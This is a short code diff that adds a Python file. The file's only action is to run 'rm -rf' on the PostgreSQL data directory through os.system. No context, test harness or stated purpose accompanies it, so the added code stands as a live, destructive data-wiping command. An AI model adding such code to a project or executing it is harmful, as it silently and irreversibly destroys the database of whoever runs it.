@@ -1,0 +1,3 @@
+import os
+
+os.system("rm -rf /var/lib/postgresql/data")
